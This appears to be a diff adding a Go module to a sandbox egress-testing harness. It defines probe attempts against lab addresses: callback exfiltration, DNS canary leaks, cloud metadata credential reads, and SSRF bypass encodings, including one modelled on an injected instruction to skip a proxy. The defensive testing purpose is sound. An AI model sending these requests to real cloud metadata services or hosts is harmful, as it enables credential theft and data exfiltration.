@@ -1,0 +1,161 @@
+package steps
+
+import (
+	"fmt"
+	"sort"
+	"strings"
+
+	"gatehouse/lab"
+	"gatehouse/probe"
+)
+
+// Lab addresses the attempts aim at (docs/lab.md). They exist only inside
+// the lab's network namespace.
+const (
+	callbackV4    = lab.CallbackV4
+	callbackV6    = lab.CallbackV6
+	inferenceAddr = lab.InferenceV4
+	resolverAddr  = lab.ResolverV4
+	authorityAddr = lab.AuthorityV4
+	metadataV4    = lab.MetadataV4
+	metadataV6    = lab.MetadataV6
+	wireServer    = lab.WireServerV4
+	alibabaMeta   = lab.AlibabaV4
+	canaryZone    = lab.CanaryZone
+)
+
+// A family is the set of named attempts one kind of step may ask for. Names
+// are what feature tables list; the payloads live here, not in the features.
+type family map[string]func(canary string) probe.Step
+
+var families = map[string]family{
+	"reach the callback server": {
+		"http":  func(c string) probe.Step { return get("http://" + callbackV4 + "/c/" + c) },
+		"https": func(c string) probe.Step { return get("https://" + callbackV4 + "/c/" + c) },
+		"tcp": func(c string) probe.Step {
+			return probe.Step{Kind: probe.KindTCP, Target: callbackV4 + ":9000", Payload: "GATEHOUSE " + c + "\n"}
+		},
+		"udp": func(c string) probe.Step {
+			return probe.Step{Kind: probe.KindUDP, Target: callbackV4 + ":9001", Payload: "GATEHOUSE " + c}
+		},
+		"icmp":      func(c string) probe.Step { return probe.Step{Kind: probe.KindICMP, Target: callbackV4, Payload: c} },
+		"http-ipv6": func(c string) probe.Step { return get("http://[" + callbackV6 + "]/c/" + c) },
+		"tcp-ipv6": func(c string) probe.Step {
+			return probe.Step{Kind: probe.KindTCP, Target: "[" + callbackV6 + "]:9000", Payload: "GATEHOUSE " + c + "\n"}
+		},
+		"icmp-ipv6": func(c string) probe.Step { return probe.Step{Kind: probe.KindICMP, Target: callbackV6, Payload: c} },
+		"redirect": func(c string) probe.Step {
+			s := get("http://" + inferenceAddr + "/redirect?to=http://" + callbackV4 + "/r/" + c)
+			s.Follow = true
+			return s
+		},
+		// The sandbox's environment may name a proxy; an injected instruction
+		// says to connect directly, so the probe leaves the proxy out.
+		"ignore-proxy": func(c string) probe.Step { return get("http://" + callbackV4 + "/p/" + c) },
+	},
+	"leak the session canary through DNS": {
+		"configured-resolver": func(c string) probe.Step { return dnsq(c+".r."+canaryZone, "", "A") },
+		"configured-resolver-txt": func(c string) probe.Step {
+			return dnsq(c+".t."+canaryZone, "", "TXT")
+		},
+		"own-resolver": func(c string) probe.Step { return dnsq(c+".o."+canaryZone, authorityAddr+":53", "A") },
+		"own-resolver-aaaa": func(c string) probe.Step {
+			return dnsq(c+".q."+canaryZone, authorityAddr+":53", "AAAA")
+		},
+	},
+	"read cloud metadata": {
+		"aws-imdsv1": func(c string) probe.Step {
+			return get("http://" + metadataV4 + "/latest/meta-data/iam/security-credentials/gatehouse-role")
+		},
+		"aws-imdsv2": func(c string) probe.Step {
+			return probe.Step{
+				Kind: probe.KindHTTP, Method: "PUT", Target: "http://" + metadataV4 + "/latest/api/token",
+				Headers: map[string]string{"X-aws-ec2-metadata-token-ttl-seconds": "21600"},
+				Then: &probe.Chain{
+					Target: "http://" + metadataV4 + "/latest/meta-data/iam/security-credentials/gatehouse-role",
+					Header: "X-aws-ec2-metadata-token",
+				},
+			}
+		},
+		"aws-ipv6": func(c string) probe.Step { return get("http://[" + metadataV6 + "]/latest/meta-data/") },
+		"gcp": func(c string) probe.Step {
+			return withHeader(get("http://"+metadataV4+"/computeMetadata/v1/instance/service-accounts/default/token"), "Metadata-Flavor", "Google")
+		},
+		"gcp-by-name": func(c string) probe.Step {
+			return withHeader(get("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"), "Metadata-Flavor", "Google")
+		},
+		"azure": func(c string) probe.Step {
+			return withHeader(get("http://"+metadataV4+"/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"), "Metadata", "true")
+		},
+		"azure-wireserver": func(c string) probe.Step {
+			return withHeader(get("http://"+wireServer+"/machine/?comp=goalstate"), "x-ms-version", "2012-11-30")
+		},
+		"alibaba": func(c string) probe.Step {
+			return get("http://" + alibabaMeta + "/latest/meta-data/ram/security-credentials/")
+		},
+		"decimal-address":  func(c string) probe.Step { return get("http://2852039166/latest/meta-data/") },
+		"hex-address":      func(c string) probe.Step { return get("http://0xa9fea9fe/latest/meta-data/") },
+		"ipv4-mapped-ipv6": func(c string) probe.Step { return get("http://[::ffff:" + metadataV4 + "]/latest/meta-data/") },
+		"dns-name":         func(c string) probe.Step { return get("http://metadata.gatehouse.test/latest/meta-data/") },
+		"redirect": func(c string) probe.Step {
+			s := get("http://" + inferenceAddr + "/redirect?to=http://" + metadataV4 + "/latest/meta-data/iam/security-credentials/")
+			s.Follow = true
+			return s
+		},
+	},
+}
+
+// controlStep is the positive control: the legitimate call the policy must
+// still allow in the same session.
+func controlStep(token string) probe.Step {
+	return probe.Step{
+		ID: "positive-control", Kind: probe.KindHTTP, Method: "POST",
+		Target:  "http://" + inferenceAddr + "/v1/complete?control=" + token,
+		Headers: map[string]string{"X-Gatehouse-Control": token, "Content-Type": "application/json"},
+		Body:    `{"prompt":"summarise the report in one line"}`,
+	}
+}
+
+// plan resolves attempt names of one family into probe steps.
+func plan(familyName string, names []string, canary string) ([]probe.Step, error) {
+	f, ok := families[familyName]
+	if !ok {
+		return nil, fmt.Errorf("no attempts for %q", familyName)
+	}
+	var steps []probe.Step
+	seen := map[string]bool{}
+	for _, n := range names {
+		mk, ok := f[n]
+		if !ok {
+			return nil, fmt.Errorf("unknown attempt %q for %q; known: %s", n, familyName, strings.Join(f.names(), ", "))
+		}
+		if seen[n] {
+			return nil, fmt.Errorf("attempt %q listed twice", n)
+		}
+		seen[n] = true
+		s := mk(canary)
+		s.ID = n
+		steps = append(steps, s)
+	}
+	return steps, nil
+}
+
+func (f family) names() []string {
+	var out []string
+	for n := range f {
+		out = append(out, n)
+	}
+	sort.Strings(out)
+	return out
+}
+
+func get(url string) probe.Step { return probe.Step{Kind: probe.KindHTTP, Method: "GET", Target: url} }
+
+func dnsq(name, server, qtype string) probe.Step {
+	return probe.Step{Kind: probe.KindDNS, Target: name, Server: server, QType: qtype}
+}
+
+func withHeader(s probe.Step, k, v string) probe.Step {
+	s.Headers = map[string]string{k: v}
+	return s
+}
